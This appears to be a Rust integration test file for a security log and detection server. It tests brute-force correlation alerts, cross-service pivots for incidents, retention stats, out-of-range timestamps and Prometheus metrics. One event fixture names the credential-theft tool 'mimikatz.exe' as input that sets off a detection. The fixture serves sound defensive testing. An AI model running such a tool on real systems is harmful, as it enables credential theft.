                    &app.responder_token,
                    &format!("service=bastion&tenant={tenant}"),
                    &body,
                    "application/x-ndjson",
                )
                .await;
            assert_eq!(status, StatusCode::OK, "{report}");
            report["detections"].as_u64().unwrap()
        }
    };
    // The base rule feeds the correlation only (generate: false by default): no detection yet.
    assert_eq!(send("acme", line("root", 0) + &line("root", 1)).await, 0);
    // Another tenant's failures do not add up with acme's.
    assert_eq!(send("globex", line("root", 2)).await, 0);
    // The rules say what is counting: root at acme (2) and root at globex (1).
    let (_, status) = app.get(&app.responder_token, "/rules").await;
    let windows = &status["correlations"][0];
    assert_eq!(windows["rule_id"], "1a6f2a8e-0000-4000-8000-00000000f002");
    assert_eq!(windows["kind"], "event_count");
    assert_eq!(windows["group_by"], serde_json::json!(["user"]));
    assert_eq!(windows["timespan_seconds"], 300);
    assert_eq!(windows["condition"], ">= 3");
    assert_eq!(windows["groups"], 2, "{status}");
    assert_eq!(windows["events"], 3, "{status}");
    assert_eq!(windows["oldest"], "2026-12-01T10:00:00Z", "{status}");
    assert_eq!(
        windows["top_groups"],
        serde_json::json!([
            {"tenant": "acme", "group": "user=root", "value": 2.0},
            {"tenant": "globex", "group": "user=root", "value": 1.0},
        ]),
        "the groups nearest the threshold first"
    );
    // The third failure for root at acme, in a later batch and within 5 minutes, completes it.
    assert_eq!(send("acme", line("bob", 2) + &line("root", 3)).await, 1);
    let (_, page) = app.get(&app.responder_token, "/detections").await;
    assert_eq!(page["total"], 1, "{page}");
    let d = &page["items"][0];
    assert_eq!(d["rule_id"], "1a6f2a8e-0000-4000-8000-00000000f002");
    assert_eq!(d["rule_title"], "Brute force against one account");
    assert_eq!(d["level"], "high");
    assert_eq!(d["tenant"], "acme");
    let (_, alerts) = app.get(&app.responder_token, "/alerts").await;
    assert_eq!(
        alerts["items"][0]["title"],
        "Brute force against one account"
    );
    assert_eq!(alerts["items"][0]["severity"], "SEV2");
    // Its evidence is the three failures for root at acme, from both batches.
    let alert = &alerts["items"][0];
    assert_eq!(alert["event_ids"].as_array().unwrap().len(), 3, "{alert}");
    let (_, shown) = app
        .get(
            &app.responder_token,
            &format!("/alerts/{}", alert["key"].as_str().unwrap()),
        )
        .await;
    let users: Vec<&str> = shown["events"]
        .as_array()
        .unwrap_or_else(|| panic!("{shown}"))
        .iter()
        .map(|e| e["user"].as_str().unwrap_or_else(|| panic!("{e}")))
        .collect();
    assert_eq!(users, ["root", "root", "root"], "{shown}");
    // The alert says what added up.
    let summary = alerts["items"][0]["summary"].as_str().unwrap();
    assert!(
        summary.contains("3 events for user=root within 5m"),
        "{summary}"
    );
    // The group that fired starts again: two more are not enough, and a failure past the
    // window does not count the old ones.
    assert_eq!(send("acme", line("root", 4) + &line("root", 5)).await, 0);
    assert_eq!(send("acme", line("root", 11)).await, 0);
    // Another account on the same host is another alert: a correlation's alerts fold by its
    // group, not by host.
    assert_eq!(
        send(
            "acme",
            line("bob", 12) + &line("bob", 13) + &line("bob", 14)
        )
        .await,
        1
    );
    let (_, alerts) = app.get(&app.responder_token, "/alerts").await;
    assert_eq!(alerts["total"], 2, "{alerts}");
    let summaries: Vec<&str> = alerts["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["summary"].as_str().unwrap())
        .collect();
    assert!(
        summaries.iter().any(|s| s.contains("for user=bob")),
        "{summaries:?}"
    );
}

#[tokio::test]
async fn a_pivot_follows_a_value_across_services_and_an_incident_pivot_proposes_scope() {
    let app = spawn_app().await;
    for (service, tenant, body) in [
        (
            "vpn",
            "acme",
            "{\"@timestamp\":\"2026-11-30T10:05:00.250Z\",\"source\":{\"ip\":\"203.0.113.9\"},\"user\":\"mallory\"}",
        ),
        (
            "web",
            "acme",
            "{\"@timestamp\":\"2026-11-30T10:00:00Z\",\"client_ip\":\"203.0.113.9\",\"path\":\"/admin\"}",
        ),
        (
            "db",
            "globex",
            "{\"@timestamp\":\"2026-11-30T10:07:30Z\",\"peer\":\"203.0.113.9\"}",
        ),
        ("db", "globex", "{\"peer\":\"198.51.100.1\"}"),
    ] {
        let (status, _) = app
            .send(
                &app.responder_token,
                &format!("service={service}&tenant={tenant}"),
                body,
                "application/json",
            )
            .await;
        assert_eq!(status, StatusCode::OK);
    }
    // A file server that names its host only in the envelope.
    let (status, _) = app
        .send(
            &app.responder_token,
            "service=files&host=FS-01&tenant=initech",
            "{\"@timestamp\":\"2026-11-30T10:06:00Z\",\"op\":\"read\"}",
            "application/json",
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    app.searchable().await;
    let (status, p) = app
        .get(&app.responder_token, "/events/pivot?value=203.0.113.9")
        .await;
    assert_eq!(status, StatusCode::OK, "{p}");
    assert_eq!(p["total"], 3);
    // The oldest and newest events' own times, not the edges of the timeline's buckets.
    assert_eq!(p["first_seen"], "2026-11-30T10:00:00Z");
    assert_eq!(p["last_seen"], "2026-11-30T10:07:30Z");
    let services: Vec<&str> = p["by_service"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["value"].as_str().unwrap())
        .collect();
    assert_eq!(services.len(), 3);
    for s in ["vpn", "web", "db"] {
        assert!(services.contains(&s), "{services:?}");
    }
    let (_, p) = app
        .get(
            &app.responder_token,
            "/events/pivot?value=203.0.113.9&field=source.ip",
        )
        .await;
    assert_eq!(p["total"], 1);

    let incident: Value = http()
        .post(app.url("/incidents"))
        .bearer_auth(&app.responder_token)
        .json(&json!({
            "title": "VPN brute force", "summary": "many failed logins",
            "severity": "sev2", "services": ["vpn"],
            "indicators": [
                {"kind": "ip", "value": "203.0.113.9"},
                {"kind": "host", "value": "fs-01"}
            ]
        }))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let key = incident["key"].as_str().unwrap().to_owned();
    let pivot = |accept: bool, token: String| {
        let url = app.url(&format!("/incidents/{key}/pivot"));
        async move {
            let resp = http()
                .post(url)
                .bearer_auth(token)
                .json(&json!({"accept": accept}))
                .send()
                .await
                .unwrap();
            let status = resp.status();
            (status, resp.json::<Value>().await.unwrap())
        }
    };
    let (status, proposal) = pivot(false, app.responder_token.clone()).await;
    assert_eq!(status, StatusCode::OK, "{proposal}");
    assert_eq!(proposal["indicators"][0]["total"], 3);
    assert_eq!(
        proposal["indicators"][0]["first_seen"],
        "2026-11-30T10:00:00Z"
    );
    assert_eq!(
        proposal["indicators"][0]["last_seen"],
        "2026-11-30T10:07:30Z"
    );
    // The host indicator found what that host sent (its envelope), in the indicators' order.
    assert_eq!(proposal["indicators"][1]["value"], "fs-01");
    assert_eq!(proposal["indicators"][1]["total"], 1);
    assert_eq!(proposal["proposed_services"], json!(["db", "files", "web"]));
    assert_eq!(
        proposal["proposed_tenants"],
        json!(["acme", "globex", "initech"])
    );
    assert_eq!(proposal["accepted"], false);
    let (status, _) = pivot(true, app.viewer_token()).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (_, accepted) = pivot(true, app.responder_token.clone()).await;
    assert_eq!(accepted["accepted"], true);
    let (_, after) = app
        .get(&app.responder_token, &format!("/incidents/{key}"))
        .await;
    assert_eq!(after["services"], json!(["vpn", "db", "files", "web"]));
    assert_eq!(after["tenants"], json!(["acme", "globex", "initech"]));
    let (_, again) = pivot(false, app.responder_token.clone()).await;
    assert_eq!(again["proposed_services"], json!([]));
}

#[tokio::test]
async fn an_incident_pivot_follows_a_user_account_whole_and_counts_it_in_texts_apart() {
    let app = spawn_app().await;
    for (query, body) in [
        (
            "service=api&tenant=acme",
            "{\"@timestamp\":\"2026-12-06T07:00:00Z\",\"user\":\"svc-deploy\"}",
        ),
        // Another account, whose name holds the words.
        (
            "service=billing&tenant=globex",
            "{\"@timestamp\":\"2026-12-06T07:01:00Z\",\"user\":\"svc-deploy-ci\"}",
        ),
        // The account named inside a message only.
        (
            "service=bastion&tenant=acme",
            "{\"@timestamp\":\"2026-12-06T07:02:00Z\",\"message\":\"Invalid user svc-deploy from 198.51.100.77\"}",
        ),
    ] {
        let (status, _) = app
            .send(&app.responder_token, query, body, "application/json")
            .await;
        assert_eq!(status, StatusCode::OK);
    }
    app.searchable().await;
    let incident: Value = http()
        .post(app.url("/incidents"))
        .bearer_auth(&app.responder_token)
        .json(&json!({
            "title": "Deploy account abused", "summary": "svc-deploy used from outside",
            "severity": "sev2", "services": ["api"], "tenants": ["acme"],
            "indicators": [
                {"kind": "user_account", "value": "svc-deploy"},
                {"kind": "ip", "value": "198.51.100.77"}
            ]
        }))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let key = incident["key"].as_str().unwrap();
    let proposal: Value = http()
        .post(app.url(&format!("/incidents/{key}/pivot")))
        .bearer_auth(&app.responder_token)
        .json(&json!({}))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let account = &proposal["indicators"][0];
    assert_eq!(account["total"], 1, "{proposal}");
    assert_eq!(account["by_service"], json!([{"value": "api", "count": 1}]));
    assert_eq!(account["in_text_only"], 2, "{proposal}");
    // A distinctive value is still found inside the message, and has no count apart.
    let ip = &proposal["indicators"][1];
    assert_eq!(ip["total"], 1, "{proposal}");
    assert!(ip.get("in_text_only").is_none(), "{proposal}");
    // billing only held the words of another account: not proposed.
    assert_eq!(proposal["proposed_services"], json!(["bastion"]));
    assert_eq!(proposal["proposed_tenants"], json!([]));
}

#[tokio::test]
async fn stats_count_events_per_service_with_their_retention() {
    let app = crate::support::spawn_app_with(|s| {
        s.retention.per_service.insert("web".into(), 30);
    })
    .await;
    app.send(
        &app.responder_token,
        "service=web",
        "{\"a\":1}\n{\"a\":2}",
        "application/x-ndjson",
    )
    .await;
    app.send(
        &app.responder_token,
        "service=db",
        "{\"a\":3}",
        "application/x-ndjson",
    )
    .await;
    app.searchable().await;
    let (status, stats) = app.get(&app.responder_token, "/events/stats").await;
    assert_eq!(status, StatusCode::OK, "{stats}");
    assert_eq!(stats["total_events"], 3);
    let web = stats["services"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["service"] == "web")
        .unwrap();
    assert_eq!(web["events"], 2);
    assert_eq!(web["retention_days"], 30);
    let db = stats["services"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["service"] == "db")
        .unwrap();
    assert!(db.get("retention_days").is_none());
}

/// Events whose own time the log store cannot keep — Go's zero time, Unix time zero, a clock in
/// the year 9999, a date before 1970 — are stored at the time they were received, their JSON unchanged, and
/// such dates inside an event's values are indexed like any text: the store keeps taking
/// events (a year past 2262 overflowed the index's time type and stopped its thread).
#[tokio::test]
async fn events_with_times_out_of_range_are_stored_at_their_arrival() {
    let app = spawn_app().await;
    let lines = [
        r#"{"@timestamp":"0001-01-01T00:00:00Z","message":"zero time"}"#,
        r#"{"@timestamp":"9999-12-31T23:59:59Z","message":"far future"}"#,
        r#"{"timestamp":-2000000000,"message":"before 1970"}"#,
        r#"{"@timestamp":"2026-11-30T10:00:00Z","message":"dates inside","when":"9999-12-31T23:59:59Z","then":"0001-01-01T00:00:00Z"}"#,
        // Unix time zero, as a number, as text and written out: a time field left at zero.
        r#"{"timestamp":0,"message":"zero number"}"#,
        r#"{"@timestamp":"0","message":"zero text"}"#,
        r#"{"@timestamp":"1970-01-01T00:00:00Z","message":"zero date"}"#,
    ];
    let (status, answer) = app
        .send(
            &app.responder_token,
            "service=clocks&host=h1",
            &lines.join("\n"),
            "application/x-ndjson",
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{answer}");
    assert_eq!(answer["stored"], 7, "{answer}");
    app.searchable().await;
    let (status, found) = app
        .get(
            &app.responder_token,
            "/events/search?q=service:clocks%20AND%20time:%3Enow-1h",
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{found}");
    let messages: Vec<&str> = found["events"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["event"]["message"].as_str().unwrap())
        .collect();
    assert_eq!(messages.len(), 6, "stored at their arrival: {found}");
    for m in [
        "zero time",
        "far future",
        "before 1970",
        "zero number",
        "zero text",
        "zero date",
    ] {
        assert!(messages.contains(&m), "{m}: {found}");
    }
    let (_, far) = app
        .get(
            &app.responder_token,
            "/events/search?q=message:%22far%20future%22",
        )
        .await;
    assert_eq!(
        far["events"][0]["event"]["@timestamp"], "9999-12-31T23:59:59Z",
        "its JSON keeps the time it carries: {far}"
    );
    // Time bounds past what the index's dates hold are taken at their ends.
    for query in [
        "q=service:clocks%20AND%20time:%5B0001-01-01%20TO%209999-12-31%5D",
        "q=service:clocks&from=now-99999999d&to=now%2B99999999w",
        "q=service:clocks%20AND%20time:%3Enow-99999999d&from=99999999999d",
    ] {
        let (status, found) = app
            .get(&app.responder_token, &format!("/events/search?{query}"))
            .await;
        assert_eq!(
            (status, &found["total"]),
            (StatusCode::OK, &json!(7)),
            "{query}: {found}"
        );
    }
    // The store still takes events.
    let (status, answer) = app
        .send(
            &app.responder_token,
            "service=clocks",
            "{\"message\":\"after\"}",
            "application/json",
        )
        .await;
    assert_eq!(
        (status, &answer["stored"]),
        (StatusCode::OK, &json!(1)),
        "{answer}"
    );
}

/// The server's counters for monitoring, in the Prometheus text format: what was stored,
/// refused and found since it started, the rules in force, its CPU time; for any token but an
/// ingest token.
#[tokio::test]
async fn metrics_count_what_was_ingested_in_the_prometheus_format() {
    let rules = rules_dir();
    let app = spawn_app_with_rules(vec![rules.path().to_owned()], |_| {}).await;
    let body =
        "{\"command\":\"mimikatz.exe\"}\n{\"command\": broken\n{\"command\":\"notepad.exe\"}\n";
    let (_, report) = app
        .send(
            &app.responder_token,
            "service=edr&host=pc-7&tenant=acme",
            body,
            "application/x-ndjson",
        )
        .await;
    assert_eq!(
        (report["stored"].as_u64(), report["detections"].as_u64()),
        (Some(2), Some(1))
    );
    let metrics = http()
        .get(app.url("/metrics"))
        .bearer_auth(app.viewer_token())
        .send()
        .await
        .unwrap();
    assert_eq!(metrics.status(), StatusCode::OK);
    assert!(
        metrics.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/plain; version=0.0.4")
    );
    let text = metrics.text().await.unwrap();
    // The values as the client (and `vigil bench ingest`) reads them.
    let samples = app.viewer.metrics().await.unwrap();
    let value = |name: &str| -> f64 {
        samples
            .iter()
            .find(|(n, _)| n == name)
            .unwrap_or_else(|| panic!("{name} missing from:\n{text}"))
            .1
    };
    assert_eq!(value("vigil_ingest_batches_total"), 1.0);
    assert_eq!(value("vigil_events_stored_total"), 2.0);
    assert_eq!(value("vigil_events_rejected_total"), 1.0);
    assert_eq!(value("vigil_detections_total"), 1.0);
    assert_eq!(value("vigil_alerts_raised_total"), 1.0);
    assert_eq!(value("vigil_rules_loaded"), 1.0);
    assert_eq!(value("vigil_rules_rejected"), 0.0);
    assert!(value("process_cpu_seconds_total") > 0.0);
    assert!(value("process_resident_memory_bytes") > 1e6);
    assert!(
        text.contains("# TYPE vigil_events_stored_total counter\n"),
        "{text}"
    );
    assert!(
        text.contains("# TYPE vigil_index_lag_events gauge\n"),
        "{text}"
    );
    assert!(text.contains("vigil_build_info{version=\""), "{text}");
    // Not a server listening for syslog: no syslog counters.
    assert!(!text.contains("vigil_syslog_"), "{text}");

    let shipper = app
        .token(json!({"name": "shipper", "role": "ingest", "service": "edr"}))
        .await;
    for (token, status) in [
        (Some(shipper.as_str()), StatusCode::FORBIDDEN),
        (None, StatusCode::UNAUTHORIZED),
    ] {
        let mut request = http().get(app.url("/metrics"));
        if let Some(token) = token {
            request = request.bearer_auth(token);
        }
        assert_eq!(request.send().await.unwrap().status(), status);
    }
}
